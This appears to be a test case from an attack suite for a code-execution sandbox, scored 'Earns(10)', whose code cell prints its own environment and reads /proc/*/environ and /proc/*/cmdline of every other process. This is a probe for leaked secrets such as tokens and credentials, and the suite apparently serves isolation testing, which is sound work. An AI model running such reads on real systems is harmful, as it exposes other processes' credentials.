"""Prints the environment of its own and of every other process."""

from attacks.kit import Earns

OUTCOME = Earns(10)
CELLS = (
    """
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read())
    except OSError as error:
        print(error)
""",
)
